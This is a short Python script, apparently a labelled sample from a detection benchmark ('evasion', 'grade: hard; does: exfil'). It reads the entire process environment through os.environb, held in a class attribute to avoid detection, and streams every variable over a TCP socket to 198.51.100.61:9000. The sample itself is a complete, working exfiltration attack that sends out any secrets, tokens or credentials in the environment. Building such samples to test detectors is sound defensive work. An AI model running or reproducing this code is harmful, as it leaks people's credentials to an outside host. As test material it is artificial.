# evasion: the environment as os.environb kept in a class attribute, printed line by line into a socket's file object
# grade: hard; does: exfil
import os
import socket


class Snapshot:
    data = os.environb

    def lines(self):
        for key, value in self.data.items():
            yield key.decode(errors="replace") + "=" + value.decode(errors="replace")


sock = socket.create_connection(("198.51.100.61", 9000), timeout=10)
out = sock.makefile("w")
for line in Snapshot().lines():
    print(line, file=out)
out.flush()
sock.close()
